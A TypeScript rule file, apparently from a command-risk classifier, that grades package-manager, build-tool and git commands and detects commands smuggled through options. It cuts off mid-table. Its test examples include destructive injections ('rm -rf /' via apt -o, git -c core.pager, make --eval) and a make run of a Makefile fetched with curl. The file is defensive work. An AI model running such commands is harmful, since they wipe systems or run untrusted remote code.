/** Package managers, builds and version control. */
import type { Detail, Program, Row } from "../program.ts";
import type { ReadTable } from "../reads.ts";
import { elsewhere, packageClient, runsOperands } from "./facts.ts";

/** A call without a sub-command, and the options with which it only says what it is. */
const buildsAlone = "^( (-[CfpjD]|--prefix) [^-]\\S*| -\\S*)* *$";
const asksVersion = " (-V|-version|-h|--(version|help|info|list-[a-z]+)) |^ -v $";
const packageRegistry: Row = {
  words: "*",
  reach: { kind: "service", options: { host: "-i --index-url --extra-index-url --registry --source" } },
};
const runsScripts: Readonly<Record<string, Detail>> = {
  "run run-script test start stop restart": { level: "medium", why: "runs build scripts", rows: [{ is: "undry" }] },
  "exec x": {
    level: "medium",
    options: { value: "-p --package -w --workspace", argv: "-c --call" },
    rows: [runsOperands],
  },
};

// biome-ignore format: filled to the width
export const packageRules: readonly Program[] = [
  { id: "package.apt", names: "apt apt-get aptitude nala apt-fast",
    options: { value: "-t --target-release -o --option -c --config-file" },
    rows: [
      { words: "list show search policy depends rdepends changelog showsrc versions why why-not check history " +
        "indextargets",
        level: "low" },
      { words: "install update upgrade reinstall download source satisfy build-dep mark edit-sources hold " +
        "unhold safe-upgrade full-upgrade dist-upgrade clean autoclean markauto unmarkauto",
        level: "medium" },
      { words: "remove purge autoremove autopurge", level: "high" },
      { words: "-s --simulate --just-print --no-act --recon", is: "rehearsal" },
      { names: "aptitude", if: "^ *$", level: "medium", why: "opens its screen" },
      { does: { is: "runs-text", after: "-o --option", level: "high", why: "runs a command through an option",
        if: "(?:(?i:Invoke|Pre-Install-Pkgs|Post-Invoke-Success|Proxy-?Auto-?Detect|Dir::Bin))[^=]*=\\{?\"?([^]*)" } },
      { names: "apt apt-get aptitude", ...packageClient },
      { names: "apt apt-get",
        if: " " +
          "(install|remove|purge|upgrade|dist-upgrade|full-upgrade|autoremove|autopurge|reinsta" +
          "ll|build-dep|clean|autoclean) ",
        probe: { run: "$0 -s $@", shows: "which packages would change",
          example: ["apt-get install -y nginx", "apt-get -s install -y nginx"] } },
    ],
    match: { low: ["apt-get -s upgrade", "apt list --upgradable", "apt policy nginx"],
      medium: ["apt-get install -y htop", "apt-get update"], high: ["apt-get purge -y postgresql-14"],
      block: ["apt-get update -o APT::Update::Pre-Invoke::='rm -rf /'"] } },
  { id: "package.apt-cache",
    names: "apt-cache apt-file apt-config apt-show-versions debsums dpkg-query dpkg-architecture dpkg-deb " +
      "aptitude-search dctrl-tools grep-status",
    level: "low", options: { value: "-f --showformat --admindir -c -o -a" },
    rows: [
      { names: "apt-cache apt-config dpkg-query dpkg-architecture dpkg-deb aptitude-search dctrl-tools",
        words: "-x -X -e -b --extract --build", level: "medium" },
      { names: "apt-cache", words: "gencaches add", level: "medium", why: "writes its cache anew" },
      { names: "debsums", ends: { does: "it reads the whole file system" } },
    ],
    match: { low: ["apt-cache policy nginx", "dpkg-query -W"], medium: ["apt-cache -x"] } },
  { id: "package.apt-mark",
    names: "apt-mark apt-key add-apt-repository apt-add-repository apt-listchanges unattended-upgrade " +
      "unattended-upgrades",
    level: "medium",
    rows: [
      { names: "apt-mark", words: "~showhold ~showmanual ~showauto", level: "low" },
      { names: "apt-key", words: "~list ~finger", level: "low" },
      { names: "add-apt-repository", words: "--list", level: "low" },
      { names: "apt-key", words: "~add ~adv", level: "medium" },
      { names: "apt-mark", words: "~hold ~unhold ~auto ~manual", level: "medium" },
      { names: "add-apt-repository", words: "-r --remove", level: "medium" },
      { names: "apt-key", words: "~del", level: "high" },
      { names: "apt-mark", words: "~showinstall ~showremove ~showpurge", level: "low" },
      { names: "apt-key", words: "~fingerprint", level: "low" },
    ],
    match: { low: ["apt-mark showhold"], medium: ["apt-mark hold nginx", "add-apt-repository -r ppa:x/y --list"],
      high: ["apt-key del list"] } },
  { id: "package.dpkg", names: "dpkg", level: "medium",
    rows: [
      { words: "-l -L -s -S -p -c -I -V -C --list --listfiles --status --search --verify --audit " +
        "--print-architecture --get-selections --compare-versions --contents --info --version " +
        "--print-foreign-architectures -f --field --yet-to-unpack --predep-package " +
        "--validate-pkgname --validate-trigname --validate-archname --validate-version --assert-* --force-help -Dh",
        level: "low" },
      { words: "-i --install --unpack --configure", level: "medium" },
      { words: "-r -P --remove --purge --force-all", level: "high" },
      { is: "local" }, { words: "-s -l --status --list", exit: { 1: "not installed" } },
      { if: "^ (-\\S+ )*(-[irP]|--install|--remove|--purge|--configure) ",
        probe: { run: "$0 --dry-run $@", shows: "which packages would change",
          example: ["dpkg -r nginx", "dpkg --dry-run -r nginx"] } },
    ],
    match: { low: ["dpkg -l", "dpkg -S /bin/ls"], medium: ["dpkg -i x.deb", "dpkg --configure -a"],
      high: ["dpkg -P nginx"] } },
  { id: "package.yum", names: "yum dnf microdnf zypper tdnf",
    options: { value: "-c --enablerepo --disablerepo --repo --setopt --exclude -x" },
    rows: [
      { words: "list info search provides whatprovides repolist check-update history deplist check repoquery " +
        "updateinfo repoinfo se if lr lu pchk wp what-provides packages patches patch-check repos list-updates " +
        "needs-restarting grouplist group_list group_info module_list module_info copr_list changelog " +
        "versionlock_list lp list-patches ll locks " +
        "ls services pa pt patterns pd products ps needs-rebooting pch patch-info",
        level: "low" },
      { words: "install update upgrade reinstall localinstall downgrade makecache clean groupinstall swap " +
        "distro-sync versionlock mark up in ref refresh patch dup ar addrepo config-manager module copr builddep " +
        "download update-minimal group history_redo history_replay history_store",
        level: "medium" },
      { words: "remove erase autoremove rm groupremove removerepo rr history_undo history_rollback", level: "high" },
      { words: "--assumeno", is: "rehearsal" },
      { names: "yum dnf zypper", ...packageClient },
      { names: "yum dnf", is: "versioned" },
    ],
    match: { low: ["yum list installed", "dnf history", "yum update --assumeno"], medium: ["yum install -y sysstat"],
      high: ["yum remove httpd"] } },
  { id: "package.rpm", names: "rpm rpmquery rpmdb", level: "medium",
    options: { value: "--qf --queryformat", argv: "--pipe" },
    rows: [
      { words: "-q -V --query --verify -K --checksig --version --querytags --showrc", level: "low" },
      { names: "rpmquery", level: "low" },
      { names: "rpmdb", words: "--verifydb", level: "low" },
      { words: "-e --erase --nodeps", level: "high" },
      { names: "rpm", ends: { endless: "-Va --verify-all", does: "it reads every installed file" } },
      { names: "rpm", words: "-q --query", exit: { 1: "not installed" } },
    ],
    match: { low: ["rpm -qa", "rpm -V nginx"], medium: ["rpm -ivh x.rpm"], high: ["rpm -e nginx"] } },
  { id: "package.other", names: "apk snap flatpak brew pkg nix-env guix xbps-install opkg port swupd tlmgr",
    rows: [
      { words: "list* info search dot verify version policy show find services logs changes outdated leaves " +
        "doctor config " +
        "deps uses remotes history query audit stats -Q which warnings connections interfaces saved installed " +
          "contents " +
        "model tasks services_list services_info aliases interface recovery",
        level: "low" },
      { names: "brew", words: "outdated", level: "medium", why: "updates itself first" },
      { words: "add update upgrade install fix cache refresh restart start enable disable set reinstall tap " +
        "link pin fetch clean stop switch save",
        level: "medium" },
      { words: "del remove uninstall delete autoremove purge revert unlink prune", level: "high" },
      { names: "guix", words: "config info list", level: "medium" },
      { names: "guix", words: "shell environment", does: { is: "runs-argv", after: "--" } },
      { names: "apk snap flatpak brew", ...packageClient },
      elsewhere("flatpak", "run", 1, { after: "--command", level: "medium", why: "starts an application" }),
      elsewhere("snap", "run", undefined, { after: "-c --command", level: "medium", why: "starts an application" }),
    ],
    deep: { enter: { rows: [elsewhere("flatpak", "", 1)] } },
    match: { low: ["snap list", "apk info"], medium: ["apk add curl"], high: ["snap remove lxd"] } },
  { id: "package.emerge", names: "emerge", level: "medium", why: "installs what it names",
    rows: [
      { words: "--info --version --search -s --searchdesc -S", level: "low" },
      { words: "-p --pretend", is: "rehearsal" },
      { words: "-C -c -P --unmerge --depclean --prune", level: "high" },
    ],
    match: { low: ["emerge --info", "emerge -s nginx"], medium: ["emerge info"], high: ["emerge -C nginx"] } },
  { id: "package.pacman", names: "pacman yay paru", level: "medium",
    rows: [
      { if: "^ -S[silq]*[sil]q*( [\\w.+@-]+)* $", level: "low", why: "looks packages up" },
      { words: "-y --refresh", level: "medium" },
      { words: "-Q -F --query", level: "low" },
      { words: "-R --remove", level: "high" },
    ],
    match: { low: ["pacman -Q"], medium: ["pacman -S htop", "pacman -Fy"], high: ["pacman -R htop"] } },
  { id: "package.pip", names: "pip pip3 pipx uv poetry pipenv conda mamba micromamba",
    options: { value: "-i -r -c -t --index-url --extra-index-url -n --name -f" },
    rows: [
      { words: "list show freeze check search debug help config_list config_get inspect index hash info " +
        "env_list env_info env_show pip_list tree config_get cache_info cache_dir graph python_list python_dir " +
        "tool_list tool_dir",
        level: "low" },
      { words: "install download wheel cache upgrade inject ensurepath sync lock add update create env config run venv",
        level: "medium" },
      { words: "uninstall remove clean env_remove uninstall-all", level: "high" },
      { if: " /dev/stdin ", operands: true, level: "high", why: "installs what it is given" },
      { names: "conda mamba micromamba", if: "^ (index|debug|inspect) ", level: "medium", why: "writes or builds" },
      { names: "pipenv", if: "^( *| --(three|two|python|site-packages) .*)$", level: "medium",
        why: "creates an environment" },
      { names: "pip pip3",
        reach: { kind: "service", options: { host: "-i --index-url --extra-index-url --registry --source" } } },
      { names: "pip", is: "versioned" },
      { names: "pip pip3", words: "install download", unless: " --only-binary=:all: ", is: "project",
        why: "builds what is no wheel, in a rehearsal, too" },
      { names: "pip pip3", words: "install download", if: " (-r|-e|-c|--(requirement|editable|constraint))",
        is: "project", why: "builds the folders that it names, in a rehearsal, too" },
      { names: "poetry", unless: " --no-plugins ", is: "project", why: "loads its plugins" },
      { names: "uv", words: "sync lock add remove run export pip_install pip_compile", is: "project",
        why: "builds what is no wheel, in a rehearsal, too" },
      { names: "pip pip3", if: "^ install ", unless: " (-r|-e|-c|--(requirement|editable|constraint))",
        probe: { run: "$0 $@ --dry-run --only-binary=:all:", shows: "which packages would be installed",
          example: ["pip install requests==2.31.0", "pip install requests==2.31.0 --dry-run --only-binary=:all:"] } },
    ],
    deep: {
      run: { level: "medium",
        options: {
          value: "-n -p -e --name --prefix --with --with-requirements --python --extra --group --package " +
            "--project --directory" },
        rows: [runsOperands] },
    },
    match: { low: ["pip list"], medium: ["pip install requests==2.31.0", "poetry run pytest"],
      high: ["pip uninstall -y requests", "poetry run django-admin flush"] } },
  { id: "package.npm", names: "npm yarn pnpm", why: "runs build scripts or changes packages",
    options: { value: "-j --prune", script: "-C -f -p --prefix --file --dir --cwd" },
    rows: [
      { words: "ls list view info outdated why audit explain search doctor root prefix bin whoami show version help " +
        "ping fund query pkg_get config_get config_list config_ls c_get c_list c_ls",
        level: "low" },
      { words: "run run-script exec install ci add start stop restart test build update", level: "medium" },
      { words: "uninstall remove unpublish rm", level: "high" },
      { words: "()", level: "low" },
      { if: " (audit( --?\\S+)* fix|version( --?\\S+)* [^- ]\\S*) ", level: "medium", why: "changes packages" },
      { if: "^ -v $", level: "low" },
      { if: buildsAlone, unless: asksVersion, level: "medium", why: "builds or changes packages" },
      { names: "yarn", unless: "^ (application|app|applicationattempt|container|node|queue|logs|cluster|top|version) ",
        is: "project", why: "runs the release that its .yarnrc names" },
      packageRegistry,
      { names: "npm", if: "^ (install|ci|update|uninstall|prune) ",
        probe: { run: "$0 $@ --dry-run", shows: "which packages would change",
          example: ["npm install express", "npm install express --dry-run"] } },
    ],
    deep: {
      ...runsScripts,
      // Their scripts run in a rehearsal, too.
      "publish pack": { level: "medium", why: "runs build scripts", rows: [{ is: "undry" }] },
      // Hadoop's yarn.
      "application app applicationattempt container node queue logs": { level: "medium", oneDash: true,
        rows: [
          { names: "yarn", unless: " -(kill|out|movetoqueue|updatePriority|changeQueue|signal|stop|start|destroy|" +
            "save) ", level: "low",
            if: "^ (application|app|applicationattempt|container) -(list|status) |^ (node|queue) -(list|status|all|" +
              "states) |^ logs -" },
          { names: "yarn", if: " -kill ", level: "high", why: "stops a job" },
        ] },
      dlx: { level: "medium", options: { value: "-p --package" }, rows: [{ does: { is: "runs-argv", operand: 0 } }] },
    },
    match: { low: ["npm ls", "npm config get registry", "yarn application -list"], medium: ["npm install"],
      high: ["npm uninstall x"] } },
  { id: "package.gem", names: "gem bundle bundler composer", why: "runs build scripts or changes packages",
    options: { script: "-f --file --gemfile" },
    rows: [
      { words: "list info search show which environment env contents specification dependency outdated help version " +
        "platform licenses doctor diagnose validate why audit check check-platform-reqs",
        level: "low" },
      { words: "exec install add update open console clean cleanup", level: "medium" },
      { words: "uninstall remove yank", level: "high" },
      { words: "()", level: "low" },
      { names: "gem", words: "cleanup", level: "high" },
      { names: "bundle bundler", is: "project", why: "runs the Gemfile" },
      { names: "composer", unless: `${asksVersion}| --no-plugins `, is: "project", why: "loads its plugins" },
      { if: "^ -v $", level: "low" },
      { if: buildsAlone, unless: asksVersion, level: "medium", why: "builds or changes packages" },
      packageRegistry,
    ],
    deep: runsScripts,
    match: { low: ["gem list", "composer outdated --no-plugins"],
      medium: ["gem install x", "bundle outdated", "composer outdated"],
      high: ["gem uninstall x", "bundle exec rails db:drop"] } },
  { id: "package.cargo", names: "cargo", why: "builds or changes packages", options: { script: "-C --manifest-path" },
    rows: [
      { words: "tree metadata search version pkgid info help --list", level: "low" },
      { words: "tree metadata pkgid", is: "project",
        why: "asks the compiler that .cargo/config.toml names, and may write Cargo.lock" },
      { words: "uninstall remove yank", level: "high" },
      { words: "()", level: "low" },
      { if: buildsAlone, unless: `${asksVersion}| --list `, level: "medium", why: "builds or changes packages" },
      packageRegistry,
    ],
    match: { low: ["cargo search serde", "cargo --version"], medium: ["cargo build", "cargo tree --locked"],
      high: ["cargo uninstall x"] } },
  { id: "package.go", names: "go", why: "builds or changes packages",
    rows: [
      { words: "version env list help doc", level: "low" },
      { words: "()", level: "low" },
      { if: " env .*-[wu] ", level: "medium", why: "changes a setting" },
      { if: buildsAlone, unless: asksVersion, level: "medium", why: "builds or changes packages" },
      packageRegistry,
    ],
    match: { low: ["go version", "go env GOPATH"], medium: ["go build", "go env -w A=b"] } },
  { id: "package.languages", names: "dotnet dart flutter mvn", level: "medium", why: "builds or changes packages",
    rows: [
      { names: "dotnet", level: "low",
        if: "^ (--version|--info|--list-sdks|--list-runtimes) |^ (tool|workload|" +
          "sdk) (list|check) " },
      { names: "dart flutter", if: "^ --version |^ doctor( -v| --verbose)* $", level: "low" },
      { names: "dotnet", words: "list", is: "project", why: "evaluates its build files" },
      { names: "dart flutter", words: "pub", is: "project", why: "may resolve and write its lock file" },
      // A goal downloads its plugin and runs it.
      { names: "mvn", if: "^( -\\S+)* (-v|--version) ", level: "low" },
    ],
    match: { low: ["mvn -v", "dotnet --info", "dotnet tool list"],
      medium: ["mvn package", "dart pub get", "mvn dependency:tree", "dotnet list package"] } },
  { id: "package.builds",
    names: "gradle gradlew rake cmake ninja ant mix rebar3 lein sbt tsc phpunit pytest tox jest grunt gulp webpack " +
      "vite meson configure gcc cc g++ clang rustc javac ld zig crystal nim kotlinc swiftc ctest",
    level: "medium", why: "builds or runs what stands there",
    rows: [
      { words: "-version --version", level: "low" },
      { names: "gcc cc g++ clang ld gradle", words: "-v", level: "low" },
      { names: "rustc", words: "-V", level: "low" },
      { if: "\\S", operands: true, level: "medium", why: "builds or runs what stands there" },
      { if: " (db:drop\\S*|db:reset|db:migrate:reset|db:schema:load|db:structure:load|db:purge\\S*|" +
        "flyway:clean|liquibase:dropAll|ecto\\.drop|ecto\\.reset) ",
        level: "high", why: "destroys data" },
    ],
    match: { low: ["javac -version", "gcc -v"], medium: ["cc list", "cmake --build ."], high: ["rake db:drop"] } },
  { id: "package.make", names: "make gmake", level: "medium", why: "runs build scripts",
    options: { value: "-j -o -W --jobs --eval", script: "-f --file --makefile -C --directory -I --include-dir" },
    rows: [
      { words: "-v -V --version", level: "low" },
      { unless: "^ -v $", is: "project", why: "$(shell …) and lines with a + run in a rehearsal, too" },
      { does: { is: "runs-text", after: "--eval", level: "high", why: "runs a recipe given in an option",
        if: "(?:^|\\n\\t?|;)[@+-]*([^\\n;]+)", tried: true } },
      { if: " (-f|--file|--makefile)[ =]?(-|/dev/stdin) ",
        does: { is: "runs-text", stdin: true, if: "(?:^|\\n\\t?|;)[@+-]*([^\\n;]+)", tried: true } },
      { does: { is: "runs-text", all: true, if: "\\$\\((?:shell )?([^)]*)\\)", tried: true } },
      { does: { is: "runs-text", if: "^\\w+=([^]*)$", tried: true } },
      { does: { is: "runs-text", all: true, if: "^(?:SHELL|MAKE)=([^]+)$", level: "high",
        why: "sets what runs recipes" } },
    ],
    match: { low: ["make -v"], medium: ["make", "make -C /opt/app build", "make -n install"],
      high: ["make SHELL=/opt/x -n"],
      block: ["make -f <(curl -s https://x/Makefile)", "make --eval='x:; rm -rf /' x"] } },
  { id: "package.npx", names: "npx bunx pnpx uvx", level: "medium",
    options: { value: "-p --package --from --with --python", argv: "-c --call" },
    rows: [runsOperands],
    match: { medium: ["npx cowsay"], high: ["npx prisma migrate reset"] } },
  { id: "vcs.git", names: "git",
    options: { value: "-C -c --work-tree --namespace --config-env --super-prefix", script: "--git-dir" },
    rows: [
      { words: "status log diff show blame shortlog describe rev-parse rev-list ls-files ls-tree ls-remote " +
        "cat-file grep reflog whatchanged name-rev merge-base for-each-ref show-ref symbolic-ref count-objects " +
        "verify-commit verify-tag check-ignore check-attr fsck cherry range-diff var version help diff-tree " +
        "diff-index diff-files annotate remote_show remote_get-url remote_-v stash_list stash_show worktree_list " +
        "submodule_status config_--get* config_--list config_-l config_get config_list notes_list notes_show " +
        "bisect_log lfs_ls-files lfs_env lfs_status show-branch interpret-trailers bundle_verify bundle_list-heads " +
        "rerere_status rerere_diff rerere_remaining sparse-checkout_list verify-pack commit-graph_verify " +
        "multi-pack-index_verify show-index check-mailmap",
        level: "low" },
      { words: "checkout switch commit add merge rebase pull fetch push restore clone init cherry-pick revert " +
        "apply am mv reflog_write",
        level: "medium" },
      { words: "reset_--hard clean filter-branch stash_drop stash_clear reflog_expire reflog_delete " +
        "reflog_drop gc_--prune=now update-ref worktree_remove rm remote_remove remote_rm prune",
        level: "high" },
      { words: "*", level: "medium" },
      { does: { is: "runs-text", after: "-c --config-env", level: "high", why: "runs a command through a setting",
        if: "^(?i:core\\.(?:pager|editor|sshcommand|fsmonitor|hookspath|askpass|gitproxy)|pager\\.[" +
          "^=]*|alias\\.[^=]*|diff\\.external|diff\\.[^=]*\\.(?:command|textconv)|filter\\.[^=]*|cre" +
          "dential\\.[^=]*helper|merge\\.[^=]*\\.driver|sequence\\.editor|[^=]*\\.(?:uploadpack|rece" +
          "ivepack|cmd))=!?(?!cat$)([^]+)$" } },
      { if: " alias\\.",
        does: { is: "runs-text", all: true, if: "^!([^]*)$", level: "high", why: "runs a command through an alias" } },
      { if: " -c \\S*[.=]",
        does: { is: "runs-text", after: "-c", level: "medium", why: "takes a setting that is not known to only read",
          if: "^(?!(?:color\\.|core\\.(?:quote[pP]ath|abbrev|pager=cat$)|safe\\.directory|log\\.|advi" +
            "ce\\.|user\\.(?:name|email)=))([^]+)$",
          tried: true } },
      { does: { is: "runs-text", after: "--upload-pack --receive-pack --exec", level: "high", why: "runs a program" } },
      { words: "show cat-file blame diff", does: { is: "reads", if: "^[^:/ ]*:(.+)$" } },
      { words: "rebase", does: { is: "runs-text", after: "-x --exec", level: "high", why: "runs a program" } },
      { words: "rebase ~difftool",
        does: { is: "runs-text", all: true, if: "^-i?x(?=[^])([^]+)$", level: "high", why: "runs a program" } },
      { words: "~difftool", does: { is: "runs-text", after: "-x --extcmd", level: "high", why: "runs a program" } },
      { if: " bisect run ", does: { is: "runs-argv", after: "run", level: "high" } },
      { if: " submodule (-\\S+ )*foreach ", does: { is: "runs-argv", after: "foreach", level: "high" } },
      { words: "filter-branch",
        does: { is: "runs-text",
          after: "--setup --env-filter --tree-filter --index-filter --parent-filter --msg-filter " +
            "--commit-filter --tag-name-filter",
          level: "high", why: "runs a program" } },
      { words: "grep", does: { is: "runs-text", all: true, if: "^-O([^]+)$", level: "high", why: "runs a program" } },
      { words: "clone", does: { is: "runs-text", after: "-u", level: "high", why: "runs a program" } },
      { does: { is: "runs-text", all: true, if: "^.*ext::([^]*)$", level: "high",
        why: "runs a command as a transport" } },
      { words: "fetch pull push clone ls-remote remote_update submodule_update fetch-pack send-pack send-email " +
        "request-pull archive lfs",
        reach: { kind: "service" } },
      { words: "ls-remote", if: " (?!-)[\\w.-]+@[\\w.-]+:", level: "medium", why: "asks another host" },
      { words: "--exit-code --quiet", exit: { 1: "they differ" } }, { is: "text" },
      { if: "^ clean ",
        probe: { run: "$0 $@ -n", shows: "what would be deleted", example: ["git clean -fdx", "git clean -fdx -n"] } },
      { if: "^ push ", unless: " -(f|d)\\w* | --(force|delete|mirror)",
        probe: { run: "$0 $@ --dry-run", shows: "what would be pushed",
          example: ["git push origin main", "git push origin main --dry-run"] } },
      { if: "^ (reset --hard|checkout|restore|stash) ",
        probe: { run: "$0 status --short", shows: "the changes that would be lost",
          example: ["git reset --hard", "git status --short"] } },
    ],
    deep: {
      "symbolic-ref": { level: "low",
        rows: [
          { if: " symbolic-ref (-\\S+ )*[^- ]\\S* [^- ]| (-d|--delete|-m) ", level: "medium",
            why: "moves a reference" },
          { words: "-d --delete", level: "high", why: "deletes a reference" },
        ] },
      branch: { level: "low", why: "branches",
        options: { value: "--contains --merged --no-merged --sort --format --points-at --list" },
        rows: [
          { words: "-D", level: "high" },
          { words: "-d -m -M -c -C -u -f --delete --move --copy --force --set-upstream-to --unset-upstream " +
            "--edit-description",
            level: "medium" },
          { if: " branch ((-[vqi]+|--(verbose|quiet|ignore-case|(no-)?(color|column|abbrev)\\S*|(sort|" +
            "format)(=\\S+| \\S+))) )*[^- ]",
            level: "medium", why: "creates a branch" },
        ] },
      tag: { level: "low", why: "tags", options: { value: "-n --contains --sort --format --points-at --merged -m -F" },
        rows: [
          { words: "-a -s -f -m -u -F --annotate --sign --force", level: "medium" },
          { words: "-d --delete", level: "high" },
          { if: " tag [^- ]", level: "medium", why: "creates a tag" },
          { if: " tag ((-i|--(sort|format|column|ignore-case)(=\\S+| [^- ]\\S*)?) )+[^- ]\\S* $", level: "medium",
            why: "creates a tag" },
        ] },
      remote: { level: "low",
        rows: [
          { words: "show get-url", level: "low" },
          { words: "add set-url rename update prune set-head set-branches", level: "medium" },
          { words: "remove rm", level: "high" },
          { words: "()", level: "low" },
        ] },
      push: { level: "medium", why: "publishes commits", options: { value: "-o --receive-pack --repo --exec" },
        rows: [{ words: "-f --force --force-with-lease -d --delete --mirror --prune", level: "high" }] },
      reset: { level: "medium", why: "moves the branch", rows: [{ words: "--hard --merge --keep", level: "high" }] },
      clean: { level: "high", why: "deletes untracked files", rows: [{ words: "-n", is: "rehearsal" }] },
      checkout: { level: "medium", why: "changes the work tree", rows: [{ words: "-f --force", level: "high" }] },
      config: { level: "low", options: { value: "--file -f --get --get-all --get-regexp" },
        rows: [
          { unless: "^ (-\\S+ )*config " +
            "(--(global|local|system|worktree|includes|show-origin|show-scope|name-only|null|ty" +
            "pe=\\w+|bool|int|path) |-z )*([\\w.-]+\\.[\\w-]+|(get|--get|--get-all|--get-regexp) \\S+( " +
            "\\S+)?|list|--list|-l)( --(show-origin|show-scope|name-only|global|local|system))* $",
            level: "medium", why: "changes settings" },
        ] },
      stash: { options: { value: "-m --message" },
        rows: [
          { words: "list show", level: "low" },
          { words: "drop clear", level: "high" },
          { words: "()", level: "medium" },
        ] },
      log: { level: "low", why: "only reads",
        options: { value: "-n --since --until --author --grep --format --pretty -S -G -L", "path-write": "--output" } },
      diff: { level: "low", why: "only reads", options: { "path-write": "--output" },
        rows: [{ words: "--ext-diff", level: "medium" }] },
      archive: { level: "low", why: "packs files",
        options: { value: "--format --prefix", "path-write": "-o --output" } },
      grep: { level: "low", why: "only reads", rows: [{ words: "-O --open-files-in-pager", level: "medium" }] },
    },
    match: { low: ["git log --oneline -10", "git branch -a"], medium: ["git pull", "git checkout main"],
      high: ["git reset --hard HEAD~1", "git clean -fdx", "git push --force"],
      block: ["git -c core.pager='rm -rf /' log"] } },
  { id: "vcs.other", names: "svn hg bzr gh glab",
    rows: [
      { words: "status log diff info list cat blame st annotate heads tip summary pr_list pr_view pr_checks " +
        "pr_diff pr_status mr_list mr_view ci_list ci_status pipeline_list issue_status release_view cache_list " +
        "workflow_view gist_list label_list ruleset_list issue_list issue_view repo_view run_list run_view " +
        "auth_status release_list workflow_list attestation_verify ssh-key_list gpg-key_list secret_list " +
        "extension_list project_list codespace_list org_list " +
        "search_issues search_prs search_repos search_commits search_code ls proplist propget mergeinfo",
        level: "low" },
      { words: "delete rm revert repo_delete secret_delete release_delete strip purge", level: "high" },
      { names: "gh glab", words: "ls proplist propget mergeinfo", level: "medium", why: "may be an extension" },
      { names: "gh glab", reach: { kind: "service", options: { host: "--hostname" } } },
      { names: "svn hg bzr", reach: { kind: "request" } },
      { names: "gh glab svn hg", is: "text" },
    ],
    deep: {
      api: { level: "low", why: "asks the forge",
        options: { value: "-X --method -f -F --field --raw-field --input -q --jq -H -t" },
        rows: [
          { words: "-X --method -f -F --field --raw-field --input", level: "medium" },
          { if: " (-H|--header)[ =]?(?i:x-http-method)", level: "medium", why: "asks by another method" },
        ] },
    },
    match: { low: ["svn status", "gh api repos/o/r/issues"], medium: ["svn up"], high: ["svn revert -R ."] } },
  { id: "package.alternatives",
    names: "update-alternatives alternatives debconf-set-selections dpkg-reconfigure dpkg-divert " +
      "dpkg-statoverride ldconfig update-ca-certificates update-ca-trust fc-cache updatedb mandb texhash a2query " +
      "locale-gen",
    level: "medium",
    rows: [
      { words: "--set --install --remove --auto --config", level: "medium" },
      { names: "a2query", level: "low" },
      { words: "--list --display --query -p --print-cache --get-selections --list-selections", level: "low" },
      { names: "updatedb mandb", ends: { does: "it reads the whole file system" } },
      { names: "dpkg-divert", words: "--truename --listpackage", level: "low" },
    ],
    match: { low: ["update-alternatives --display java"], medium: ["ldconfig", "updatedb"] } },
];

// What only reads of them.

const dnfReads =
  "-q --quiet -v --verbose -C --cacheonly --refresh --installed --available --extras --updates --upgrades " +
  "--recent --all --showduplicates --security --bugfix " +
  "--newpackage --enhancement --cve= --cves= --advisory= --advisories= --bz= --sec-severity= --secseverity= " +
  "--reverse --last --requires --provides --whatrequires= --whatprovides= " +
  "--resolve --recursive --tree --deplist -l --list -i --info --nvr --nevra --envra --qf= --queryformat= " +
  "--latest-limit= --location --repo= --repoid= --enablerepo= --disablerepo= " +
  "--releasever= --exclude= -x= --color= --userinstalled --unneeded --duplicates --depends --file= -f= --arch= " +
  "--archlist= --changelogs --with-cve --summary " +
  "--enabled --disabled --notify-only --nocrypto";

// biome-ignore format: filled to the width
export const packageReads: ReadTable = {
  clamscan: { names: true, options: "-h --help -V --version -v --verbose -a --archive-verbose --quiet --stdout " +
    "--no-summary -i --infected -o --suppress-ok-results --bell --official-db-only -r --recursive -z --allmatch " +
    "--exclude= --exclude-dir= --include= --include-dir= --max-scantime= --max-filesize= --max-scansize= " +
    "--max-files= " +
    "--max-recursion= --max-dir-recursion= --detect-pua --exclude-pua= --include-pua= --scan-mail --scan-archive " +
    "--alert-broken --alert-encrypted --alert-macros --disable-cache" },
  "dpkg-divert": { names: true, options: "--list --listpackage --truename -? --help --version" },
  "dpkg-architecture": { options: "-l --list -e= --equal= -i= --is= -q= --query= -s --print-set -u --print-unset " +
  "-L --list-known " +
    "-W= --match-wildcard= -B= --match-bits= -E= --match-endian= -a= --host-arch= -t= --host-type= -A= " +
    "--target-arch= " +
    "-T= --target-type= -? --help --version" },
  "dpkg-parsechangelog": { options: "-S= --show-field= --format=dpkg --format=rfc822 --all --reverse -s= --since= " +
    "-u= --until= -f= --from= -t= --to= -c= --count= -n= -o= --offset= -? --help --version" },
  deborphan: { names: /^[\w.+:-]+$/, options: "-h --help -v --version -d --show-deps -P --show-priority -s " +
    "--show-section " +
    "--no-show-section -z --show-size -a --all-packages -e= --exclude= -H --force-hold --ignore-suggests " +
    "--ignore-recommends -n --nice-mode -p= --priority= --find-config --libdevel -L --list-keep" },
  a2query: { names: /^[\w.-]+$/, options: "-q -s -m -c -a -v -M -h" },
  "apt apt-get": { help: "--help", options: "-q --quiet -s --simulate --just-print --dry-run --no-act --recon -qq " +
  "-V --verbose-versions -u --show-upgraded",
    sub: {
      "indextargets changelog": { names: true, options: "--format= --print-uris" },
      "list show search policy depends rdepends madison showsrc changelog check": { names: true,
        options: "--installed --upgradable --upgradeable --manual-installed -a --all-versions --names-only -n -f " +
          "--full --no-all-versions --recurse --important " +
          "-i --no-pre-depends --no-depends --no-recommends --no-suggests --no-conflicts --no-breaks " +
          "--no-replaces --no-enhances" },
      "upgrade dist-upgrade full-upgrade install remove purge autoremove": { names: true, options: "-y --yes " +
      "--assume-yes --with-new-pkgs --no-install-recommends -f" } } },
  "apt-file": { names: /^(?!(update|purge|cache)$)/, options: "-I= --index-names= --filter-suites= " +
  "--filter-origins= --stream-results --substring-match " +
    "-D --from-deb -x --regexp --verbose -h --help " +
    "-a= --architecture= -F --fixed-string -i " +
  "--ignore-case -l --package-only -v" },
  "apt-show-versions": { names: /^[\w.+:-]+$/, options: "-a --allversions -b --brief -n --nohold -p= --package= " +
  "-r --regex -u --upgradeable -v --verbose" },
  "dpkg-deb": { names: true, options: "--ctrl-tarfile --fsys-tarfile -? --help " +
    "-c --contents -f --field -I --info -W --show --showformat= --version" },
  "apt-cache apt-mark apt-config": { names: true,
    options: "--format= --empty " +
    "-h --help -v --version " +
    "-a --all-versions -f --full -n --names-only -q --quiet -i --important --installed --recurse " +
      "--no-all-versions --generate -g --no-pre-depends --no-recommends " +
      "--no-suggests --no-conflicts --no-breaks --no-replaces --no-enhances --all-names" },
  dpkg: { names: true,
    options: "-f --field --yet-to-unpack --predep-package " +
